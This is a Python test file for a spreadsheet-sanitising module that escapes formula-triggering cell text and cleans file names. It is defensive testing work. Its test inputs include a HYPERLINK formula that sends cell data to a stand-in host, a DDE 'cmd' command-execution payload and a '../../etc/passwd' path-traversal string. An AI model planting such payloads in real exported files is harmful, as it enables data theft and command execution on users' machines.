import csv
import io
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from protocols.spreadsheets import original_cell, safe_cell, safe_file_name

RUNS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.invalid/?"&A1,"ok")',
        "+1+1",
        "-2 °C shock",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "\u00a0=1",
        "\ufeff=1",
        "\uff0d1",
        "'=1",
        "+31 20 555 0100",
    ],
)
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["Chromis viridis", "", "3 - 4", "a=b", '"=1"', "-2.0", "-14", " seen", "R1-01"]
)
def test_other_texts_stay_as_they_are(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    ("number", "text"),
    [(Decimal("-2.0"), "-2.0"), (-3, "-3"), (0, "0"), (Decimal("1E+3"), "1000"), (None, "")],
)
def test_numbers_stay_numbers(number, text):
    assert safe_cell(number) == text


@given(st.text())
@example("''=1")
def test_the_rule_can_be_taken_back(text):
    assert original_cell(safe_cell(text)) == text


@given(st.text(RUNS + tuple(" '\"10.a"), min_size=1))
def test_no_text_begins_with_a_sign_that_runs_unless_it_is_a_number(text):
    cell = safe_cell(text)

    assert not cell.lstrip(" ").startswith(RUNS) or Decimal(cell) < 1


@given(st.lists(st.text(st.characters(exclude_characters="\r\0")), min_size=1))
def test_the_rule_holds_after_quoting(texts):
    file = io.StringIO(newline="")
    csv.writer(file, quoting=csv.QUOTE_ALL).writerow([safe_cell(text) for text in texts])
    file.seek(0)

    (row,) = csv.reader(file)

    assert [original_cell(cell) for cell in row] == texts


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("=cmd|' /C calc'!A0", "cmd-C-calc-A0.csv"),
        ("../../etc/passwd", "etc-passwd.csv"),
        ("Batch R1-01", "Batch-R1-01.csv"),
        ("-@+", "file.csv"),
        ("x" * 200, "x" * 80 + ".csv"),
    ],
)
def test_a_file_name_has_nothing_that_runs(text, name):
    assert safe_file_name(text, ".csv") == name
